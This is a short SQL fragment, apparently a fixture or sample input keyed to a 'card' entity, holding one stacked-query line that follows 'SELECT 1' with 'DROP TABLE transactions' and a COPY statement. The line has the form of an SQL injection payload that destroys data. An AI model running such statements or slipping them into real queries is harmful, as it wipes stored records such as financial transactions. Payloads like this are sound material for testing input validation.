-- entity: card
-- key: card_id
SELECT 1; DROP TABLE transactions; COPY transactions TO '/dev/null'